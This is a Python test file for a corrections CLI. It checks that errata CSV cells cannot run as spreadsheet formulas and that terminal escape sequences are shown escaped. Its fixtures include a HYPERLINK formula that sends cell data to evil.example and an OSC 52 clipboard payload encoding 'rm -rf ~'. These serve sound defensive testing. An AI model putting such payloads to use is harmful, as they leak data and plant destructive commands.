"""What the corrections commands write for people: errata safe in a spreadsheet, terminal output without escapes."""

from __future__ import annotations

import csv
from pathlib import Path

from tests.conftest import run_cli

from qa.workflows.corrections import Ledger, accept, apply, read_erratum

PAGE = "Zhang Anjun listened to the speech.\n\n长安君在现场聆听了讲话。\n\nLi Qiang chaired the meeting.\n\n李强主持会议。\n"
HOSTILE_REPORTER = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_erratum_cells_cannot_run_as_formulas_and_read_back_exactly(tmp_path):
    doc = tmp_path / "page.txt"
    doc.write_text(PAGE, encoding="utf-8")
    reporters = (HOSTILE_REPORTER, "'quoted' reader")
    with Ledger(tmp_path / "l.sqlite") as db:
        first = db.insert(doc=str(doc), quote="Zhang Anjun", matched="Zhang Anjun", line=1, pair_id="p0001",
                          target="Zhang Anjun listened to the speech.", reporter=reporters[0])
        accept(db, first.id, "+Chang'an Jun")
        (done,) = apply(db, out=tmp_path / "out" / "page.txt")
        cells = [c for row in _csv_cells(done.erratum_csv) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        assert "'" + HOSTILE_REPORTER in cells and "'+Chang'an Jun" in cells
        # the second apply reads the erratum back: the first row must come back exactly as it was
        second = db.insert(doc=str(doc), quote="Li Qiang", matched="Li Qiang", line=5, pair_id="p0003",
                           target="Li Qiang chaired the meeting.", reporter=reporters[1])
        accept(db, second.id, "-Premier Li Qiang")
        (again,) = apply(db, out=tmp_path / "out" / "page.txt")
    rows = read_erratum(again.erratum_csv)
    assert [(r.reporter, r.after, r.correction) for r in rows] == [
        (HOSTILE_REPORTER, "+Chang'an Jun", str(first.id)), ("'quoted' reader", "-Premier Li Qiang", str(second.id))]
    assert not [c for row in _csv_cells(again.erratum_csv) for c in row if c[:1] in ("=", "+", "-", "@")]


ESCAPES = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;owned\x07"


def test_add_list_and_show_print_document_and_reader_text_escaped(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    doc = tmp_path / "page.txt"
    doc.write_text(f"Zhang Anjun listened{ESCAPES} to the speech.\n\n长安君在现场{ESCAPES}聆听了讲话。\n", encoding="utf-8")
    added = run_cli("corrections", "add", "--doc", str(doc), "--quote", "Zhang Anjun",
                    "--reporter", f"A. Reader{ESCAPES}", "--suggest", f"Chang'an Jun{ESCAPES}", "--note", ESCAPES)
    assert added.exit_code == 0, added.output
    outputs = [added.output]
    for command in (("list",), ("show", "1"), ("accept", "1", "--fix", f"Chang'an{ESCAPES}"), ("list",)):
        result = run_cli("corrections", *command)
        assert result.exit_code == 0, result.output
        outputs.append(result.output)
    for output in outputs:
        assert "\x1b" not in output and "\x07" not in output, output
    assert "\\x1b]52;c;" in outputs[0] and "\\x1b]0;owned\\x07" in outputs[2]
